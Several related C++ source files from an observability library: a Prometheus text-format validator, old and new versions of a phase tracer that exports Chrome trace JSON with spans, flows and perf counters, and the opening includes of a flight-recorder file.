validateMetricRef(std::string_view line, std::string_view &name)
{
    size_t brace = line.find_first_of("{ \t");
    if (brace == std::string_view::npos)
        return std::string_view::npos;
    name = line.substr(0, brace);
    if (!validMetricName(name))
        return std::string_view::npos;
    if (line[brace] != '{')
        return brace;
    // Walk the label set: name="value" pairs, comma separated, with
    // \\, \" and \n escapes inside the quoted value.
    size_t i = brace + 1;
    while (i < line.size() && line[i] != '}') {
        size_t eq = line.find('=', i);
        if (eq == std::string_view::npos ||
            !validMetricName(line.substr(i, eq - i)))
            return std::string_view::npos;
        i = eq + 1;
        if (i >= line.size() || line[i] != '"')
            return std::string_view::npos;
        ++i;
        while (i < line.size() && line[i] != '"') {
            if (line[i] == '\\')
                ++i;
            ++i;
        }
        if (i >= line.size())
            return std::string_view::npos;
        ++i; // closing quote
        if (i < line.size() && line[i] == ',')
            ++i;
    }
    if (i >= line.size())
        return std::string_view::npos;
    return i + 1; // past '}'
}

} // anonymous namespace

bool
validatePrometheusText(std::string_view text, std::string *error)
{
    auto fail = [&](size_t line_no, const std::string &why) {
        if (error != nullptr)
            *error = "line " + std::to_string(line_no) + ": " + why;
        return false;
    };

    static const std::set<std::string, std::less<>> known_types = {
        "counter", "gauge", "histogram", "summary", "untyped"};

    std::set<std::string> typed; // metrics with a TYPE comment seen
    size_t line_no = 0;
    size_t pos = 0;
    while (pos <= text.size()) {
        size_t eol = text.find('\n', pos);
        std::string_view line = text.substr(
            pos, eol == std::string_view::npos ? text.size() - pos
                                               : eol - pos);
        pos = eol == std::string_view::npos ? text.size() + 1
                                            : eol + 1;
        ++line_no;
        if (line.empty())
            continue;
        if (line[0] == '#') {
            size_t i = 1;
            std::string_view kw = tokenAt(line, i);
            if (kw != "HELP" && kw != "TYPE")
                continue; // free-form comment: legal
            std::string_view name = tokenAt(line, i);
            if (!validMetricName(name))
                return fail(line_no, "bad metric name in # " +
                                         std::string(kw));
            if (kw == "TYPE") {
                std::string_view ty = tokenAt(line, i);
                if (known_types.find(ty) == known_types.end())
                    return fail(line_no, "unknown TYPE '" +
                                             std::string(ty) + "'");
                if (!typed.insert(std::string(name)).second)
                    return fail(line_no, "duplicate TYPE for '" +
                                             std::string(name) +
                                             "'");
            }
            continue;
        }
        std::string_view name;
        size_t after = validateMetricRef(line, name);
        if (after == std::string_view::npos)
            return fail(line_no, "malformed metric reference");
        size_t i = after;
        std::string_view value = tokenAt(line, i);
        if (!validValue(value))
            return fail(line_no, "bad sample value '" +
                                     std::string(value) + "'");
        std::string_view ts = tokenAt(line, i);
        if (!ts.empty() && !validValue(ts))
            return fail(line_no, "bad timestamp '" +
                                     std::string(ts) + "'");
        std::string_view rest = tokenAt(line, i);
        if (!rest.empty())
            return fail(line_no, "trailing garbage after sample");
    }
    return true;
}

} // namespace coldboot::obs
