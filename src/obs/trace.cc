#include "obs/trace.hh"

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "common/logging.hh"
#include "obs/flight.hh"
#include "obs/fsio.hh"
#include "obs/perf.hh"
#include "obs/stats.hh"

namespace coldboot::obs
{

namespace
{

std::string
jsonNumber(double v)
{
    if (!std::isfinite(v))
        v = 0.0;
    char buf[40];
    std::snprintf(buf, sizeof(buf), "%.17g", v);
    return buf;
}

std::string
jsonEscape(const std::string &s)
{
    std::string out;
    out.reserve(s.size());
    for (char c : s) {
        if (c == '"' || c == '\\')
            out += '\\';
        if (static_cast<unsigned char>(c) < 0x20) {
            char buf[8];
            std::snprintf(buf, sizeof(buf), "\\u%04x", c);
            out += buf;
            continue;
        }
        out += c;
    }
    return out;
}

/** Span/flow ids render as hex strings: Chrome's flow-id matching
 *  and Perfetto's args display both take them verbatim. */
std::string
hexId(uint64_t v)
{
    char buf[24];
    std::snprintf(buf, sizeof(buf), "0x%llx",
                  static_cast<unsigned long long>(v));
    return buf;
}

/** Tracer instances get process-unique ids so the per-thread shard
 *  cache can never hand a shard of a destroyed tracer to a new one
 *  reusing its address (tests create short-lived tracers). */
std::atomic<uint64_t> g_next_tracer_id{1};

struct ShardCacheEntry
{
    uint64_t tracer_id;
    std::shared_ptr<TraceShard> shard;
};

/** This thread's shard per tracer. shared_ptr keeps a cached shard
 *  alive even if its tracer dies first; the unique tracer_id keys
 *  make such orphans unreachable. */
thread_local std::vector<ShardCacheEntry> tl_shard_cache;

/** Process-wide span-perf-attribution switch (see trace.hh). */
std::atomic<bool> g_span_perf{false};

Counter &
traceDroppedCounter()
{
    static Counter &c = StatRegistry::global().counter(
        "obs.trace.dropped",
        "trace events dropped at the per-thread shard capacity");
    return c;
}

int64_t
steadyNowNs()
{
    return std::chrono::duration_cast<std::chrono::nanoseconds>(
               std::chrono::steady_clock::now().time_since_epoch())
        .count();
}

} // anonymous namespace

PhaseTracer::PhaseTracer(size_t shard_capacity_)
    : tracer_id(
          g_next_tracer_id.fetch_add(1, std::memory_order_relaxed)),
      shard_capacity(shard_capacity_)
{
    epoch_ns.store(steadyNowNs(), std::memory_order_relaxed);
}

PhaseTracer::~PhaseTracer() = default;

PhaseTracer &
PhaseTracer::global()
{
    static PhaseTracer instance;
    static bool env_checked = [] {
        if (const char *v = std::getenv("COLDBOOT_PROFILE_SPANS");
            v && *v && std::strcmp(v, "0") != 0)
            setSpanPerfEnabled(true);
        return true;
    }();
    (void)env_checked;
    return instance;
}

void
PhaseTracer::setSpanPerfEnabled(bool on)
{
    g_span_perf.store(on, std::memory_order_relaxed);
}

bool
PhaseTracer::spanPerfEnabled()
{
    return g_span_perf.load(std::memory_order_relaxed);
}

double
PhaseTracer::nowUs() const
{
    int64_t now = steadyNowNs();
    return static_cast<double>(
               now - epoch_ns.load(std::memory_order_relaxed)) /
           1e3;
}

uint64_t
PhaseTracer::newId()
{
    return next_id.fetch_add(1, std::memory_order_relaxed);
}

TraceShard &
PhaseTracer::myShard()
{
    for (const ShardCacheEntry &e : tl_shard_cache)
        if (e.tracer_id == tracer_id)
            return *e.shard;
    auto shard = std::make_shared<TraceShard>();
    shard->tid = next_tid.fetch_add(1, std::memory_order_relaxed);
    {
        std::lock_guard<std::mutex> lock(shards_mu);
        shards.push_back(shard);
    }
    tl_shard_cache.push_back({tracer_id, shard});
    return *tl_shard_cache.back().shard;
}

uint64_t
PhaseTracer::currentSpanId()
{
    return myShard().current_span;
}

void
PhaseTracer::recordEvent(TraceEvent ev)
{
    if (!recording.load(std::memory_order_relaxed))
        return;
    TraceShard &sh = myShard();
    ev.tid = sh.tid;
    std::lock_guard<std::mutex> lock(sh.mu);
    if (sh.events.size() >= shard_capacity) {
        dropped.fetch_add(1, std::memory_order_relaxed);
        traceDroppedCounter().add(1);
        if (!overflow_warned.exchange(true))
            cb_warn("trace buffer full (%zu events on one thread); "
                    "dropping further events - see obs.trace.dropped",
                    shard_capacity);
        return;
    }
    sh.events.push_back(std::move(ev));
}

void
PhaseTracer::recordSpan(const std::string &name, double ts_us,
                        double dur_us)
{
    if (!recording.load(std::memory_order_relaxed))
        return;
    TraceEvent ev;
    ev.name = name;
    ev.ts_us = ts_us;
    ev.dur_us = dur_us;
    ev.phase = TraceEvent::Phase::Complete;
    ev.id = newId();
    ev.parent = myShard().current_span;
    recordEvent(std::move(ev));
}

void
PhaseTracer::recordFlowStart(const std::string &name,
                             uint64_t flow_id)
{
    if (!recording.load(std::memory_order_relaxed))
        return;
    TraceEvent ev;
    ev.name = name;
    ev.ts_us = nowUs();
    ev.phase = TraceEvent::Phase::FlowStart;
    ev.id = flow_id;
    recordEvent(std::move(ev));
}

void
PhaseTracer::recordFlowFinish(const std::string &name,
                              uint64_t flow_id, double ts_us)
{
    if (!recording.load(std::memory_order_relaxed))
        return;
    TraceEvent ev;
    ev.name = name;
    ev.ts_us = ts_us;
    ev.phase = TraceEvent::Phase::FlowFinish;
    ev.id = flow_id;
    recordEvent(std::move(ev));
}

size_t
PhaseTracer::eventCount() const
{
    std::vector<std::shared_ptr<TraceShard>> copy;
    {
        std::lock_guard<std::mutex> lock(shards_mu);
        copy = shards;
    }
    size_t n = 0;
    for (const auto &sh : copy) {
        std::lock_guard<std::mutex> lock(sh->mu);
        n += sh->events.size();
    }
    return n;
}

uint64_t
PhaseTracer::droppedCount() const
{
    return dropped.load(std::memory_order_relaxed);
}

std::vector<TraceEvent>
PhaseTracer::events() const
{
    std::vector<std::shared_ptr<TraceShard>> copy;
    {
        std::lock_guard<std::mutex> lock(shards_mu);
        copy = shards;
    }
    std::vector<TraceEvent> out;
    for (const auto &sh : copy) {
        std::lock_guard<std::mutex> lock(sh->mu);
        out.insert(out.end(), sh->events.begin(), sh->events.end());
    }
    std::stable_sort(out.begin(), out.end(),
                     [](const TraceEvent &a, const TraceEvent &b) {
                         return a.ts_us < b.ts_us;
                     });
    return out;
}

std::string
PhaseTracer::chromeTraceJson() const
{
    std::vector<TraceEvent> merged = events();
    std::string out = "[";
    for (size_t i = 0; i < merged.size(); ++i) {
        const TraceEvent &e = merged[i];
        out += i ? ",\n " : "\n ";
        switch (e.phase) {
        case TraceEvent::Phase::Complete: {
            out += "{\"name\": \"" + jsonEscape(e.name) +
                   "\", \"cat\": \"span\", \"ph\": \"X\", \"ts\": " +
                   jsonNumber(e.ts_us) +
                   ", \"dur\": " + jsonNumber(e.dur_us) +
                   ", \"pid\": 1, \"tid\": " + std::to_string(e.tid) +
                   ", \"args\": {\"span\": \"" + hexId(e.id) +
                   "\", \"parent\": \"" + hexId(e.parent) + "\"";
            if (e.flow != 0)
                out += ", \"flow\": \"" + hexId(e.flow) + "\"";
            if (e.has_perf)
                out += ", \"cycles\": " + std::to_string(e.cycles) +
                       ", \"instructions\": " +
                       std::to_string(e.instructions) +
                       ", \"cache_misses\": " +
                       std::to_string(e.cache_misses);
            out += "}}";
            break;
        }
        case TraceEvent::Phase::FlowStart:
            out += "{\"name\": \"" + jsonEscape(e.name) +
                   "\", \"cat\": \"flow\", \"ph\": \"s\", \"id\": \"" +
                   hexId(e.id) + "\", \"ts\": " + jsonNumber(e.ts_us) +
                   ", \"pid\": 1, \"tid\": " + std::to_string(e.tid) +
                   "}";
            break;
        case TraceEvent::Phase::FlowFinish:
            out += "{\"name\": \"" + jsonEscape(e.name) +
                   "\", \"cat\": \"flow\", \"ph\": \"f\", \"bp\": "
                   "\"e\", \"id\": \"" +
                   hexId(e.id) + "\", \"ts\": " + jsonNumber(e.ts_us) +
                   ", \"pid\": 1, \"tid\": " + std::to_string(e.tid) +
                   "}";
            break;
        }
    }
    out += "\n]\n";
    return out;
}

void
PhaseTracer::writeTraceFile(const std::string &path) const
{
    writeFileCreatingDirs(path, chromeTraceJson(), "trace output");
}

void
PhaseTracer::resetForTest()
{
    std::vector<std::shared_ptr<TraceShard>> copy;
    {
        std::lock_guard<std::mutex> lock(shards_mu);
        copy = shards;
    }
    for (const auto &sh : copy) {
        std::lock_guard<std::mutex> lock(sh->mu);
        sh->events.clear();
    }
    dropped.store(0, std::memory_order_relaxed);
    overflow_warned.store(false, std::memory_order_relaxed);
    next_id.store(1, std::memory_order_relaxed);
    epoch_ns.store(steadyNowNs(), std::memory_order_relaxed);
}

//
// ScopedSpan
//

ScopedSpan::ScopedSpan(std::string name_, PhaseTracer &tracer_)
    : tracer(tracer_), shard(&tracer_.myShard()),
      name(std::move(name_)), start_us(tracer_.nowUs())
{
    span_id = tracer.newId();
    parent_id = shard->current_span;
    saved_context = shard->current_span;
    shard->current_span = span_id;
    begin();
}

ScopedSpan::ScopedSpan(std::string name_, uint64_t parent_span,
                       uint64_t flow_id_, PhaseTracer &tracer_)
    : tracer(tracer_), shard(&tracer_.myShard()),
      name(std::move(name_)), flow_id(flow_id_),
      start_us(tracer_.nowUs())
{
    span_id = tracer.newId();
    parent_id = parent_span;
    saved_context = shard->current_span;
    shard->current_span = span_id;
    begin();
}

void
ScopedSpan::begin()
{
    if (PhaseTracer::spanPerfEnabled()) {
        PerfSample s = ThreadPerfCounters::mine().readNow();
        if (s.available) {
            perf_live = true;
            perf_cycles0 = s.cycles;
            perf_instructions0 = s.instructions;
            perf_cache_misses0 = s.cache_misses;
        }
    }
    if (FlightRecorder *fr = FlightRecorder::instance();
        fr && fr->enabled())
        fr->record(FlightKind::SpanBegin, name.c_str(), span_id,
                   parent_id);
}

ScopedSpan::~ScopedSpan()
{
    stop();
}

double
ScopedSpan::stop()
{
    if (done)
        return dur_us / 1e6;
    done = true;
    dur_us = tracer.nowUs() - start_us;

    // Restore the thread's span context. The shard outlives any
    // tracer teardown (shared ownership), and only this thread
    // touches current_span.
    shard->current_span = saved_context;

    TraceEvent ev;
    ev.name = name;
    ev.ts_us = start_us;
    ev.dur_us = dur_us;
    ev.phase = TraceEvent::Phase::Complete;
    ev.id = span_id;
    ev.parent = parent_id;
    ev.flow = flow_id;
    if (perf_live) {
        PerfSample now = ThreadPerfCounters::mine().readNow();
        if (now.available) {
            auto sub = [](uint64_t a, uint64_t b) {
                return a > b ? a - b : 0;
            };
            ev.has_perf = true;
            ev.cycles = sub(now.cycles, perf_cycles0);
            ev.instructions =
                sub(now.instructions, perf_instructions0);
            ev.cache_misses =
                sub(now.cache_misses, perf_cache_misses0);
        }
    }

    if (FlightRecorder *fr = FlightRecorder::instance();
        fr && fr->enabled())
        fr->record(FlightKind::SpanEnd, name.c_str(), span_id,
                   static_cast<uint64_t>(dur_us));

    if (ev.has_perf) {
        StatRegistry &reg = StatRegistry::global();
        const std::string base = "obs.span." + name;
        reg.counter(base + ".count", "spans recorded with perf")
            .add(1);
        reg.counter(base + ".cycles", "CPU cycles inside this span")
            .add(ev.cycles);
        reg.counter(base + ".instructions",
                    "instructions retired inside this span")
            .add(ev.instructions);
        reg.counter(base + ".cache_misses",
                    "cache misses inside this span")
            .add(ev.cache_misses);
    }

    // The flow arrow must terminate *inside* this span's slice:
    // stamp the finish at the span midpoint so viewers bind it here
    // rather than to a neighboring slice sharing the boundary ts.
    if (flow_id != 0)
        tracer.recordFlowFinish(name, flow_id,
                                start_us + dur_us / 2.0);
    tracer.recordEvent(std::move(ev));
    return dur_us / 1e6;
}

//
// ScopedTimer
//

ScopedTimer::ScopedTimer(Distribution &dist_)
    : dist(dist_), start(std::chrono::steady_clock::now())
{
}

ScopedTimer::~ScopedTimer()
{
    stop();
}

double
ScopedTimer::stop()
{
    if (!done) {
        done = true;
        elapsed = std::chrono::duration<double>(
                      std::chrono::steady_clock::now() - start)
                      .count();
        dist.sample(elapsed);
    }
    return elapsed;
}

} // namespace coldboot::obs
