#include "obs/trace.hh"

#include <algorithm>
#include <cmath>
#include <cstdio>

#include "common/logging.hh"
#include "obs/fsio.hh"
#include "obs/stats.hh"

namespace coldboot::obs
{

namespace
{

std::string
jsonNumber(double v)
{
    if (!std::isfinite(v))
        v = 0.0;
    char buf[40];
    std::snprintf(buf, sizeof(buf), "%.17g", v);
    return buf;
}

std::string
jsonEscape(const std::string &s)
{
    std::string out;
    out.reserve(s.size());
    for (char c : s) {
        if (c == '"' || c == '\\')
            out += '\\';
        if (static_cast<unsigned char>(c) < 0x20) {
            char buf[8];
            std::snprintf(buf, sizeof(buf), "\\u%04x", c);
            out += buf;
            continue;
        }
        out += c;
    }
    return out;
}

} // anonymous namespace

PhaseTracer::PhaseTracer() : epoch(std::chrono::steady_clock::now())
{
}

PhaseTracer &
PhaseTracer::global()
{
    static PhaseTracer instance;
    return instance;
}

double
PhaseTracer::nowUs() const
{
    return std::chrono::duration<double, std::micro>(
               std::chrono::steady_clock::now() - epoch)
        .count();
}

uint32_t
PhaseTracer::tidOf(std::thread::id id)
{
    // Small dense thread ids, first-seen order (called under mu).
    auto it =
        std::find(known_threads.begin(), known_threads.end(), id);
    if (it != known_threads.end())
        return static_cast<uint32_t>(it - known_threads.begin());
    known_threads.push_back(id);
    return static_cast<uint32_t>(known_threads.size() - 1);
}

void
PhaseTracer::recordSpan(const std::string &name, double ts_us,
                        double dur_us)
{
    if (!recording)
        return;
    std::lock_guard<std::mutex> lock(mu);
    if (buffer.size() >= maxEvents)
        return;
    buffer.push_back(TraceEvent{name, ts_us, dur_us,
                                tidOf(std::this_thread::get_id())});
}

size_t
PhaseTracer::eventCount() const
{
    std::lock_guard<std::mutex> lock(mu);
    return buffer.size();
}

std::vector<TraceEvent>
PhaseTracer::events() const
{
    std::lock_guard<std::mutex> lock(mu);
    return buffer;
}

std::string
PhaseTracer::chromeTraceJson() const
{
    std::lock_guard<std::mutex> lock(mu);
    std::string out = "[";
    for (size_t i = 0; i < buffer.size(); ++i) {
        const TraceEvent &e = buffer[i];
        out += i ? ",\n " : "\n ";
        out += "{\"name\": \"" + jsonEscape(e.name) +
               "\", \"ph\": \"X\", \"ts\": " + jsonNumber(e.ts_us) +
               ", \"dur\": " + jsonNumber(e.dur_us) +
               ", \"pid\": 1, \"tid\": " + std::to_string(e.tid) +
               "}";
    }
    out += "\n]\n";
    return out;
}

void
PhaseTracer::writeTraceFile(const std::string &path) const
{
    writeFileCreatingDirs(path, chromeTraceJson(), "trace output");
}

void
PhaseTracer::resetForTest()
{
    std::lock_guard<std::mutex> lock(mu);
    buffer.clear();
    known_threads.clear();
    epoch = std::chrono::steady_clock::now();
}

//
// ScopedSpan
//

ScopedSpan::ScopedSpan(std::string name_, PhaseTracer &tracer_)
    : tracer(tracer_), name(std::move(name_)),
      start_us(tracer_.nowUs())
{
}

ScopedSpan::~ScopedSpan()
{
    stop();
}

double
ScopedSpan::stop()
{
    if (!done) {
        done = true;
        dur_us = tracer.nowUs() - start_us;
        tracer.recordSpan(name, start_us, dur_us);
    }
    return dur_us / 1e6;
}

//
// ScopedTimer
//

ScopedTimer::ScopedTimer(Distribution &dist_)
    : dist(dist_), start(std::chrono::steady_clock::now())
{
}

ScopedTimer::~ScopedTimer()
{
    stop();
}

double
ScopedTimer::stop()
{
    if (!done) {
        done = true;
        elapsed = std::chrono::duration<double>(
                      std::chrono::steady_clock::now() - start)
                      .count();
        dist.sample(elapsed);
    }
    return elapsed;
}

} // namespace coldboot::obs
