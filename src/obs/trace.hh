/**
 * @file
 * Phase tracing: named wall-clock spans recorded into a process-global
 * buffer and exportable as Chrome `trace_event` JSON (an array of
 * {"name", "ph": "X", "ts", "dur", "pid", "tid"} complete events that
 * chrome://tracing and Perfetto load directly).
 *
 * ScopedSpan is the usual entry point: construct it at the top of a
 * phase and the span is recorded when it goes out of scope (or when
 * stop() is called, which also returns the duration for derived
 * stats such as throughput). ScopedTimer is the registry-side
 * sibling: it samples its elapsed seconds into a Distribution.
 */

#ifndef COLDBOOT_OBS_TRACE_HH
#define COLDBOOT_OBS_TRACE_HH

#include <chrono>
#include <cstdint>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

namespace coldboot::obs
{

class Distribution;

/** One completed span, timestamps in microseconds since the epoch. */
struct TraceEvent
{
    std::string name;
    double ts_us;
    double dur_us;
    uint32_t tid;
};

/**
 * Thread-safe recorder of completed spans. Recording is enabled by
 * default and cheap (a mutex push per span; spans are per-phase, not
 * per-event); the buffer is bounded so a runaway loop cannot exhaust
 * memory.
 */
class PhaseTracer
{
  public:
    PhaseTracer();

    /** The process-global tracer instance. */
    static PhaseTracer &global();

    void setEnabled(bool on) { recording = on; }
    bool enabled() const { return recording; }

    /** Microseconds since the tracer epoch. */
    double nowUs() const;

    /**
     * Record a completed span. The calling thread's id is attached;
     * silently dropped when disabled or the buffer is full.
     */
    void recordSpan(const std::string &name, double ts_us,
                    double dur_us);

    /** Number of spans currently buffered. */
    size_t eventCount() const;

    /** Copy of the buffered events (tests and custom exporters). */
    std::vector<TraceEvent> events() const;

    /**
     * Chrome trace_event JSON: a bare array of complete ("X") events
     * with name/ph/ts/dur/pid/tid fields.
     */
    std::string chromeTraceJson() const;

    /** Write chromeTraceJson() to @p path (cb_fatal on I/O error). */
    void writeTraceFile(const std::string &path) const;

    /** Drop all buffered events and restart the epoch. */
    void resetForTest();

  private:
    static constexpr size_t maxEvents = 1u << 20;

    uint32_t tidOf(std::thread::id id);

    mutable std::mutex mu;
    std::vector<TraceEvent> buffer;
    std::vector<std::thread::id> known_threads;
    std::chrono::steady_clock::time_point epoch;
    bool recording = true;
};

/**
 * RAII span: records a complete trace event over its lifetime.
 */
class ScopedSpan
{
  public:
    explicit ScopedSpan(std::string name,
                        PhaseTracer &tracer = PhaseTracer::global());

    ScopedSpan(const ScopedSpan &) = delete;
    ScopedSpan &operator=(const ScopedSpan &) = delete;

    ~ScopedSpan();

    /**
     * End the span now and record it; idempotent.
     * @return Span duration in seconds.
     */
    double stop();

  private:
    PhaseTracer &tracer;
    std::string name;
    double start_us;
    double dur_us = 0.0;
    bool done = false;
};

/**
 * RAII timer: samples its elapsed wall-clock seconds into a
 * Distribution when it goes out of scope (or at stop()).
 */
class ScopedTimer
{
  public:
    explicit ScopedTimer(Distribution &dist);

    ScopedTimer(const ScopedTimer &) = delete;
    ScopedTimer &operator=(const ScopedTimer &) = delete;

    ~ScopedTimer();

    /**
     * Sample now instead of at destruction; idempotent.
     * @return Elapsed seconds.
     */
    double stop();

  private:
    Distribution &dist;
    std::chrono::steady_clock::time_point start;
    double elapsed = 0.0;
    bool done = false;
};

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_TRACE_HH
