/**
 * @file
 * Causal phase tracing: named wall-clock spans with 64-bit ids and
 * parent links, recorded into per-thread sharded buffers and
 * exportable as Chrome `trace_event` JSON that chrome://tracing and
 * Perfetto load directly.
 *
 * Three event kinds are recorded:
 *  - complete spans (`ph: "X"`), each carrying its span id, its
 *    parent span id and (optionally) hardware-counter deltas in the
 *    event `args`;
 *  - flow start / flow finish pairs (`ph: "s"` / `ph: "f"`), which
 *    draw the arrow from the point a task was *submitted* to the
 *    span in which it *ran* - the causality that would otherwise be
 *    lost when work crosses the work-stealing exec::ThreadPool.
 *
 * Causality is tracked through a per-thread span context: every
 * ScopedSpan pushes its id as the thread's current span and restores
 * the previous one at stop, so nested spans get correct parent ids
 * with no pool (or any other machinery) involved. The pool captures
 * the submitter's context and re-establishes it around each task
 * (see exec::ThreadPool::submit), so a task's span is parented to
 * the span that submitted it, on whatever worker it lands.
 *
 * Recording appends to the calling thread's own shard (one
 * uncontended mutex per thread, taken briefly at export time by the
 * merger), so tracing scales with the pool instead of serializing it
 * behind one global lock. Shards are bounded; events past the cap
 * are counted in `obs.trace.dropped` (and droppedCount()) and warned
 * about once - never silently discarded.
 *
 * ScopedSpan is the usual entry point: construct it at the top of a
 * phase and the span is recorded when it goes out of scope (or when
 * stop() is called, which also returns the duration for derived
 * stats such as throughput). When span-level perf attribution is on
 * (setSpanPerfEnabled / `--profile-spans`), each span additionally
 * carries cycles / instructions / cache-miss deltas read from the
 * calling thread's continuously-running perf counter group, exported
 * both in the trace `args` and as `obs.span.<name>.*` registry
 * counters. ScopedTimer is the registry-side sibling: it samples its
 * elapsed seconds into a Distribution.
 */

#ifndef COLDBOOT_OBS_TRACE_HH
#define COLDBOOT_OBS_TRACE_HH

#include <atomic>
#include <chrono>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

namespace coldboot::obs
{

class Distribution;

/** One recorded trace event, timestamps in microseconds since the
 *  tracer epoch. */
struct TraceEvent
{
    enum class Phase : uint8_t
    {
        /** A completed span (`ph: "X"`). */
        Complete,
        /** Flow start at a task's submission site (`ph: "s"`). */
        FlowStart,
        /** Flow finish inside the task's run span (`ph: "f"`). */
        FlowFinish,
    };

    std::string name;
    double ts_us = 0.0;
    /** Complete events only. */
    double dur_us = 0.0;
    uint32_t tid = 0;
    Phase phase = Phase::Complete;
    /** Span id (Complete) or flow-binding id (FlowStart/FlowFinish);
     *  0 = none assigned. */
    uint64_t id = 0;
    /** Parent span id; 0 = root (Complete events only). */
    uint64_t parent = 0;
    /** Flow id that finishes inside this span; 0 = none. */
    uint64_t flow = 0;
    /** Whether the perf deltas below are meaningful. */
    bool has_perf = false;
    uint64_t cycles = 0;
    uint64_t instructions = 0;
    uint64_t cache_misses = 0;
};

/** Per-thread event shard (see PhaseTracer). The `current_span`
 *  context cell is touched only by the owning thread. */
struct TraceShard
{
    std::mutex mu;
    std::vector<TraceEvent> events;
    uint32_t tid = 0;
    /** The owning thread's active span id (0 = none). */
    uint64_t current_span = 0;
};

/**
 * Thread-safe recorder of spans and flow events. Recording is
 * enabled by default and cheap (an uncontended per-thread mutex push
 * per event; spans are per-phase or per-pool-task, not per-block);
 * shards are bounded so a runaway loop cannot exhaust memory, and
 * events lost to the bound are counted, never silently dropped.
 */
class PhaseTracer
{
  public:
    /** @param shard_capacity Events retained per thread before
     *  overflow counting starts (tests shrink this). */
    explicit PhaseTracer(size_t shard_capacity = defaultShardCapacity);

    ~PhaseTracer();

    PhaseTracer(const PhaseTracer &) = delete;
    PhaseTracer &operator=(const PhaseTracer &) = delete;

    /** The process-global tracer instance. */
    static PhaseTracer &global();

    void setEnabled(bool on) { recording = on; }
    bool enabled() const { return recording; }

    /**
     * Toggle span-level hardware-counter attribution (process-wide):
     * when on, every ScopedSpan carries cycles / instructions /
     * cache-miss deltas from the calling thread's perf counter group
     * (graceful no-op where perf_event_open is unavailable).
     */
    static void setSpanPerfEnabled(bool on);
    static bool spanPerfEnabled();

    /** Microseconds since the tracer epoch. */
    double nowUs() const;

    /** A fresh, process-unique span or flow id (never 0). */
    uint64_t newId();

    /** The calling thread's active span id (0 = none). */
    uint64_t currentSpanId();

    /**
     * Record a completed span. The calling thread's context supplies
     * the parent link and a fresh id is assigned; dropped (and
     * counted) when the shard is full, silently ignored when
     * disabled.
     */
    void recordSpan(const std::string &name, double ts_us,
                    double dur_us);

    /** Record a fully specified event (the ScopedSpan path). */
    void recordEvent(TraceEvent ev);

    /**
     * Record a flow start (`ph: "s"`) at the current time on the
     * calling thread - Perfetto binds it to the slice enclosing its
     * timestamp, so call it while the submitting span is open.
     */
    void recordFlowStart(const std::string &name, uint64_t flow_id);

    /** Record a flow finish (`ph: "f"`, `bp: "e"`) at @p ts_us. */
    void recordFlowFinish(const std::string &name, uint64_t flow_id,
                          double ts_us);

    /** Number of events currently buffered across all shards. */
    size_t eventCount() const;

    /** Events dropped at the shard capacity since the last reset. */
    uint64_t droppedCount() const;

    /**
     * Merged copy of the buffered events, sorted by timestamp (tests
     * and custom exporters).
     */
    std::vector<TraceEvent> events() const;

    /**
     * Chrome trace_event JSON: a bare array of complete ("X") events
     * with name/ph/ts/dur/pid/tid fields - span id, parent id, flow
     * id and perf deltas ride in "args" - plus flow ("s"/"f") events
     * linking task submission to execution.
     */
    std::string chromeTraceJson() const;

    /** Write chromeTraceJson() to @p path (cb_fatal on I/O error). */
    void writeTraceFile(const std::string &path) const;

    /** Drop all buffered events and restart the epoch. */
    void resetForTest();

    /**
     * The calling thread's shard of this tracer, created on first
     * use. Only ScopedSpan needs this directly (context save and
     * restore); everything else goes through the record calls.
     */
    TraceShard &myShard();

  private:
    static constexpr size_t defaultShardCapacity = 1u << 17;

    const uint64_t tracer_id;
    const size_t shard_capacity;

    mutable std::mutex shards_mu;
    std::vector<std::shared_ptr<TraceShard>> shards;
    std::atomic<uint32_t> next_tid{0};
    std::atomic<uint64_t> next_id{1};
    std::atomic<uint64_t> dropped{0};
    std::atomic<bool> overflow_warned{false};
    /** Epoch as steady_clock nanos - atomic so resetForTest can
     *  restart it while other threads stamp events. */
    std::atomic<int64_t> epoch_ns{0};
    std::atomic<bool> recording{true};
};

/**
 * RAII span: assigns itself an id, links to the thread's current
 * span as parent, becomes the current span for its lifetime, and
 * records a complete trace event (plus optional perf deltas and a
 * flight-recorder begin/end breadcrumb pair) when it goes out of
 * scope.
 */
class ScopedSpan
{
  public:
    explicit ScopedSpan(std::string name,
                        PhaseTracer &tracer = PhaseTracer::global());

    /**
     * Pool-task form: parent the span to @p parent_span (the
     * submitter's context captured at submit time) instead of the
     * worker thread's context, and close flow @p flow_id inside the
     * recorded span. Used by exec::ThreadPool to stitch causality
     * across submit / steal / run.
     */
    ScopedSpan(std::string name, uint64_t parent_span,
               uint64_t flow_id,
               PhaseTracer &tracer = PhaseTracer::global());

    ScopedSpan(const ScopedSpan &) = delete;
    ScopedSpan &operator=(const ScopedSpan &) = delete;

    ~ScopedSpan();

    /** This span's id (stable from construction). */
    uint64_t id() const { return span_id; }

    /** The parent span id recorded for this span (0 = root). */
    uint64_t parentId() const { return parent_id; }

    /**
     * End the span now and record it; idempotent.
     * @return Span duration in seconds.
     */
    double stop();

  private:
    void begin();

    PhaseTracer &tracer;
    TraceShard *shard;
    std::string name;
    uint64_t span_id = 0;
    uint64_t parent_id = 0;
    /** Context to restore at stop (may differ from parent_id for
     *  pool tasks). */
    uint64_t saved_context = 0;
    uint64_t flow_id = 0;
    double start_us;
    double dur_us = 0.0;
    bool done = false;
    bool perf_live = false;
    uint64_t perf_cycles0 = 0;
    uint64_t perf_instructions0 = 0;
    uint64_t perf_cache_misses0 = 0;
};

/**
 * RAII timer: samples its elapsed wall-clock seconds into a
 * Distribution when it goes out of scope (or at stop()).
 */
class ScopedTimer
{
  public:
    explicit ScopedTimer(Distribution &dist);

    ScopedTimer(const ScopedTimer &) = delete;
    ScopedTimer &operator=(const ScopedTimer &) = delete;

    ~ScopedTimer();

    /**
     * Sample now instead of at destruction; idempotent.
     * @return Elapsed seconds.
     */
    double stop();

  private:
    Distribution &dist;
    std::chrono::steady_clock::time_point start;
    double elapsed = 0.0;
    bool done = false;
};

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_TRACE_HH
