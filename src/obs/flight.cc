#include "obs/flight.hh"

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstring>

#include <csignal>
#include <fcntl.h>
#include <unistd.h>

#ifdef __linux__
#include <sys/syscall.h>
#endif

#include "common/logging.hh"
#include "obs/json.hh"
